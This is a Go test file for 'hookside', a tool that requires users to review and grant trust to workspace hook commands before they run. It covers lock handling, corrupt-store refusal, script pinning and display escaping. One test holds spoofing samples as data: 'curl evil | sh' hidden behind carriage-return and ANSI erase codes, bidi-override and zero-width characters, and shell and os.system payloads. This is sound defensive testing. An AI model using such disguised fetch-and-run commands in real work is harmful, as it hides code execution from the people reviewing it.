package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/gofrs/flock"

	"github.com/hookside/hookside/truststore"
)

// With envLockHolder set, the test binary is a foreign process that holds
// the trust file lock the way hookside does (flock + holder record) until
// it is killed.
const envLockHolder = "HOOKSIDE_TEST_LOCK_HOLDER"

func TestMain(m *testing.M) {
	if p := os.Getenv(envLockHolder); p != "" {
		os.Exit(holdLock(p))
	}
	if os.Getenv(envAsBinary) == "1" {
		os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
	}
	os.Exit(m.Run())
}

func holdLock(path string) int {
	fl := flock.New(path, flock.SetPermissions(0o600))
	if err := fl.Lock(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	stat, _ := os.ReadFile("/proc/self/stat")
	s := string(stat)
	ticks := uint64(0)
	if i := strings.LastIndexByte(s, ')'); i > 0 {
		if f := strings.Fields(s[i+1:]); len(f) > 19 {
			ticks, _ = strconv.ParseUint(f[19], 10, 64)
		}
	}
	info, _ := json.Marshal(map[string]any{"pid": os.Getpid(), "startTicks": ticks,
		"startedAt": time.Now().UTC(), "token": "0123456789abcdef", "acquiredAt": time.Now().UTC()})
	_ = os.WriteFile(path, info, 0o600)
	fmt.Println("locked")
	time.Sleep(time.Hour)
	return 0
}

// trustEnv is a workspace with one declaration and a hookside home.
type trustEnv struct {
	home, ws string
}

func newTrustEnv(t *testing.T) trustEnv {
	t.Helper()
	root := t.TempDir()
	e := trustEnv{home: filepath.Join(root, "home"), ws: filepath.Join(root, "ws")}
	for p, c := range map[string]string{
		filepath.Join(e.home, "config.json"): `{"hooks":{"enabled":true}}`,
		filepath.Join(e.ws, ".git", "HEAD"):  "ref: refs/heads/main\n",
		filepath.Join(e.ws, "zcode.json"):    `{"hooks":{"events":{"Stop":[{"hooks":[{"type":"command","command":"true"}]}]}}}`,
	} {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return e
}

func (e trustEnv) cli(args ...string) (int, string, string) {
	var out, errb bytes.Buffer
	code := run(append(append([]string{"hooks", "trust"}, args...), "--workspace", e.ws, "--home", e.home), &out, &errb)
	return code, out.String(), errb.String()
}

func (e trustEnv) status(t *testing.T) trustStatus {
	t.Helper()
	code, out, errs := e.cli("status", "--json")
	if code != 0 {
		t.Fatalf("status: %d %s", code, errs)
	}
	var st trustStatus
	if err := json.Unmarshal([]byte(out), &st); err != nil {
		t.Fatal(err)
	}
	return st
}

func (e trustEnv) lockPath() string {
	return filepath.Join(e.home, "security", truststore.FileName+".lock")
}

func startHolder(t *testing.T, lockPath string) *exec.Cmd {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(lockPath), 0o700); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), envLockHolder+"="+lockPath)
	cmd.Stderr = os.Stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	if sc := bufio.NewScanner(out); !sc.Scan() || sc.Text() != "locked" {
		t.Fatalf("holder did not lock: %q", sc.Text())
	}
	return cmd
}

// TestGrantWaitsForLiveHolderThenNamesIt: the spec's 5 s lock wait
// (§"信任存在哪、怎样审查": 拿锁最多等 5 秒) through the CLI, with the holder
// named; once the holder is killed (-9) the lock is free at once.
func TestGrantWaitsForLiveHolderThenNamesIt(t *testing.T) {
	if testing.Short() {
		t.Skip("waits 5 s")
	}
	e := newTrustEnv(t)
	st := e.status(t)
	d := st.Declarations[0].Digest
	holder := startHolder(t, e.lockPath())

	start := time.Now()
	code, _, errs := e.cli("grant", "--digest", d)
	took := time.Since(start)
	if code != exitError {
		t.Fatalf("grant with the lock held: exit %d (%s), want 1", code, errs)
	}
	if want := fmt.Sprintf("hookside hooks trust grant: the workspace hook trust file is busy: its lock %s is held by pid %d (started ", e.lockPath(), holder.Process.Pid); !strings.Contains(errs, want) || strings.Contains(errs, "truststore") {
		t.Fatalf("stderr %q does not name the holder (%s)", errs, want)
	}
	if strings.Contains(errs, "has exited") {
		t.Fatalf("a live holder reported as exited: %s", errs)
	}
	if took < truststore.DefaultLockTimeout || took > truststore.DefaultLockTimeout+2*time.Second {
		t.Fatalf("grant gave up after %s, want about %s", took, truststore.DefaultLockTimeout)
	}
	t.Logf("live holder: exit %d after %s: %s", code, took.Round(time.Millisecond), strings.TrimSpace(errs))
	if got := e.status(t); got.Counts[string(truststore.PendingTrust)] != 1 {
		t.Fatalf("something was granted: %v", got.Counts)
	}

	_ = holder.Process.Signal(syscall.SIGKILL)
	_ = holder.Wait()
	start = time.Now()
	if code, _, errs := e.cli("grant", "--digest", d); code != 0 {
		t.Fatalf("grant after kill -9 of the holder: exit %d %s", code, errs)
	}
	if took := time.Since(start); took > time.Second {
		t.Fatalf("grant after kill -9 took %s: the lock was not free at once", took)
	}
	if got := e.status(t); got.Counts[string(truststore.TrustedPersistent)] != 1 {
		t.Fatalf("not granted: %v", got.Counts)
	}
}

// TestRevokeAndReviewCorrupt: every write path of the CLI (grant, revoke,
// the terminal review) refuses a corrupt store with exit 3 and writes no
// fresh file; the command after the refusal works (PROTOCOL.md §4).
func TestRevokeAndReviewCorrupt(t *testing.T) {
	e := newTrustEnv(t)
	d := e.status(t).Declarations[0].Digest
	if code, _, errs := e.cli("grant", "--digest", d); code != 0 {
		t.Fatal(errs)
	}
	p := filepath.Join(e.home, "security", truststore.FileName)
	for _, action := range [][]string{{"grant", "--digest", d}, {"revoke", "--digest", d}, {"revoke", "--all"}} {
		if err := os.WriteFile(p, []byte("{"), 0o600); err != nil {
			t.Fatal(err)
		}
		code, _, errs := e.cli(action...)
		if code != exitCorrupt {
			t.Fatalf("%v on a corrupt store: exit %d (%s), want 3", action, code, errs)
		}
		if _, err := os.Lstat(p); !os.IsNotExist(err) {
			t.Fatalf("%v: a fresh trust file was written after the refusal", action)
		}
	}
	if m, _ := filepath.Glob(p + ".corrupt-*"); len(m) != 3 {
		t.Fatalf("corrupt copies %v", m)
	}
	// The terminal review path grants too: refused the same way.
	if err := os.WriteFile(p, []byte("{"), 0o600); err != nil {
		t.Fatal(err)
	}
	oldTTY, oldIn := stdinIsTTY, stdinReader
	defer func() { stdinIsTTY, stdinReader = oldTTY, oldIn }()
	stdinIsTTY = func() bool { return true }
	stdinReader = strings.NewReader("all\n")
	if code, _, errs := e.cli("review"); code != exitCorrupt {
		t.Fatalf("review on a corrupt store: exit %d (%s)", code, errs)
	}
	stdinReader = strings.NewReader("1\n")
	if code, out, errs := e.cli("review"); code != 0 || !strings.Contains(out, "trusted "+d) {
		t.Fatalf("review after recovery: exit %d %s %s", code, out, errs)
	}
}

// writeFiles writes path -> content (a "#!" content is made executable).
func writeFiles(t *testing.T, files map[string]string) {
	t.Helper()
	for p, c := range files {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		mode := os.FileMode(0o644)
		if strings.HasPrefix(c, "#!") {
			mode = 0o755
		}
		if err := os.WriteFile(p, []byte(c), mode); err != nil {
			t.Fatal(err)
		}
	}
}

// zcodeDecls is a zcode.json declaring hooks for PreToolUse (matcher Bash).
func zcodeDecls(hooks ...map[string]any) string {
	b, _ := json.Marshal(map[string]any{"hooks": map[string]any{"events": map[string]any{
		"PreToolUse": []any{map[string]any{"matcher": "Bash", "hooks": hooks}}}}})
	return string(b)
}

// runPreToolUse runs the PreToolUse hooks of e.ws as a host would.
func (e trustEnv) runPreToolUse(t *testing.T, extra ...string) string {
	t.Helper()
	in := filepath.Join(t.TempDir(), "in.json")
	if err := os.WriteFile(in, []byte(`{"toolName":"Bash","toolInput":{"command":"ls"}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	var out, errb bytes.Buffer
	args := append([]string{"hooks", "run", "--event", "PreToolUse", "--cwd", e.ws, "--input", in, "--home", e.home, "--json"}, extra...)
	run(args, &out, &errb)
	return out.String() + errb.String()
}

func assertNoMarker(t *testing.T, marker string) {
	t.Helper()
	if b, err := os.ReadFile(marker); err == nil {
		t.Fatalf("the untrusted script ran: %s holds %q", marker, b)
	}
}

// Finding 3 (CLI) and 1: the bundle digest covers the scripts the
// declarations pin, so `grant --all --bundle-digest B` fails after a script
// edit, and a script missing at grant time is pinned as absent.
func TestGrantAllBundleCoversScripts(t *testing.T) {
	e := newTrustEnv(t)
	marker := filepath.Join(filepath.Dir(e.ws), "ran")
	writeFiles(t, map[string]string{
		filepath.Join(e.ws, "zcode.json"): zcodeDecls(
			map[string]any{"type": "command", "command": "./hooks/x.sh"},
			map[string]any{"type": "command", "command": "./hooks/later.sh"}),
		filepath.Join(e.ws, "hooks/x.sh"): "#!/bin/sh\nexit 0\n",
	})
	st := e.status(t)
	if got := st.Declarations[0].Pins; len(got) != 1 || got[0].Kind != "file" || len(got[0].SHA256) != 64 {
		t.Fatalf("pins of ./hooks/x.sh: %+v", got)
	}
	if got := st.Declarations[1].Pins; len(got) != 1 || got[0].Kind != "absent" || got[0].Path != "hooks/later.sh" {
		t.Fatalf("pins of the missing ./hooks/later.sh: %+v", got)
	}
	code, out, _ := e.cli("status")
	if code != 0 || !strings.Contains(out, "hooks/x.sh sha256:"+st.Declarations[0].Pins[0].SHA256[:12]) ||
		!strings.Contains(out, "hooks/later.sh (absent)") {
		t.Fatalf("status does not show the pins:\n%s", out)
	}
	// Edit after the review: the reviewed bundle no longer matches.
	writeFiles(t, map[string]string{filepath.Join(e.ws, "hooks/x.sh"): "#!/bin/sh\necho EVIL >> " + marker + "\n"})
	if code, _, errs := e.cli("grant", "--all", "--bundle-digest", st.BundleDigest); code != exitError ||
		!strings.Contains(errs, "changed since it was shown") {
		t.Fatalf("grant --all with a stale bundle digest: exit %d %s", code, errs)
	}
	e.runPreToolUse(t)
	assertNoMarker(t, marker)
	// Granted as shown now; then the missing script appears.
	st = e.status(t)
	if code, _, errs := e.cli("grant", "--all", "--bundle-digest", st.BundleDigest); code != 0 {
		t.Fatal(errs)
	}
	writeFiles(t, map[string]string{filepath.Join(e.ws, "hooks/later.sh"): "#!/bin/sh\necho LATER >> " + marker + ".later\n"})
	out = e.runPreToolUse(t)
	assertNoMarker(t, marker+".later")
	if !strings.Contains(out, "script_changed") {
		t.Fatalf("the appeared script is not reported as script_changed:\n%s", out)
	}
}

// Finding 4: the human-readable display shows `shell`, escapes control,
// format and bidi characters, and quotes process args.
func TestTrustDisplayCannotBeSpoofed(t *testing.T) {
	e := newTrustEnv(t)
	writeFiles(t, map[string]string{filepath.Join(e.ws, "zcode.json"): zcodeDecls(
		map[string]any{"type": "command", "command": "echo good", "shell": "sh -c 'echo EVIL' x"},
		map[string]any{"type": "command", "command": "curl evil | sh\r\u001b[2Kecho harmless"},
		map[string]any{"type": "command", "command": "echo line1\necho hidden"},
		map[string]any{"type": "command", "command": "echo \u202eslam\u202c ok"},
		map[string]any{"type": "process", "command": "python3", "args": []string{"-c", "import os; os.system('x')", "two words", "", "\u200bzw"}},
	)})
	for _, action := range []string{"status", "review"} {
		code, out, errs := e.cli(action)
		if code != 0 {
			t.Fatalf("%s: %d %s", action, code, errs)
		}
		for _, bad := range []string{"\r", "\x1b", "\u202e", "\u202c", "\u200b", "echo hidden\n"} {
			if strings.Contains(out, bad) {
				t.Errorf("%s prints a raw %q:\n%s", action, bad, out)
			}
		}
		for _, want := range []string{
			"shell: sh -c 'echo EVIL' x",
			`command: "curl evil | sh\r\x1b[2Kecho harmless"`,
			`command: "echo line1\necho hidden"`,
			`command: "echo \u202eslam\u202c ok"`,
			`process (no shell): python3 -c "import os; os.system('x')" "two words" "" "\u200bzw"`,
		} {
			if !strings.Contains(out, want) {
				t.Errorf("%s lacks %q:\n%s", action, want, out)
			}
		}
	}
}

// Finding 7: --project-config adds the host's extra project file to
// discovery, so its declarations can be reviewed and granted.
func TestTrustProjectConfig(t *testing.T) {
	e := newTrustEnv(t)
	marker := filepath.Join(filepath.Dir(e.ws), "ran")
	extra := filepath.Join(filepath.Dir(e.ws), "extra.json")
	writeFiles(t, map[string]string{extra: zcodeDecls(map[string]any{"type": "command", "command": "echo pc >> " + marker})})
	if st := e.status(t); len(st.Declarations) != 1 {
		t.Fatalf("without --project-config: %d declarations, want 1 (zcode.json's Stop)", len(st.Declarations))
	}
	code, out, errs := e.cli("status", "--json", "--project-config", extra)
	var st trustStatus
	if code != 0 || json.Unmarshal([]byte(out), &st) != nil || len(st.Declarations) != 2 {
		t.Fatalf("status --project-config: %d %s %s", code, out, errs)
	}
	e.runPreToolUse(t, "--project-config", extra)
	assertNoMarker(t, marker)
	if code, _, errs := e.cli("grant", "--all", "--bundle-digest", st.BundleDigest, "--project-config", extra); code != 0 {
		t.Fatalf("grant --project-config: %d %s", code, errs)
	}
	e.runPreToolUse(t, "--project-config", extra)
	if b, err := os.ReadFile(marker); err != nil || string(b) != "pc\n" {
		t.Fatalf("granted project-config hook did not run: %q %v", b, err)
	}
}

// Revoke reports only the records it deleted; the rest are "unknown",
// and revoking nothing for a named digest exits 1.
func TestTrustRevokeReportsUnknown(t *testing.T) {
	e := newTrustEnv(t)
	d := e.status(t).Declarations[0].Digest
	if code, _, errs := e.cli("grant", "--digest", d); code != 0 {
		t.Fatal(errs)
	}
	unknownDigest := "deadbeef"
	code, out, errs := e.cli("revoke", "--digest", unknownDigest, "--digest", d, "--json")
	var res struct{ Revoked, Unknown []string }
	if code != exitError || json.Unmarshal([]byte(out), &res) != nil {
		t.Fatalf("revoke: %d %s %s", code, out, errs)
	}
	if len(res.Revoked) != 1 || res.Revoked[0] != d || len(res.Unknown) != 1 || res.Unknown[0] != unknownDigest {
		t.Fatalf("revoke result %+v", res)
	}
	if code, out, _ := e.cli("revoke", "--digest", d); code != exitError || !strings.Contains(out, "revoked 0 record(s)") ||
		!strings.Contains(out, "no trust record for "+d) {
		t.Fatalf("second revoke: %d %s", code, out)
	}
}
